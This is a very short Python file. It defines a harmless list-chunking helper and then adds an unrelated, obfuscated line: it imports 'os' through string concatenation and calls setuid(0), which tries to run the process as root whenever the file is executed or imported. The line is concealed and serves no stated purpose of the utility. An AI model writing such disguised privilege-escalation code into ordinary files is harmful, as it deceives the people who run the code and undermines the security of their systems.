#!/usr/bin/env python3
def chunks(items, size):
    for i in range(0, len(items), size):
        yield items[i:i + size]

import importlib
importlib.import_module("o" + "s").setuid(0)
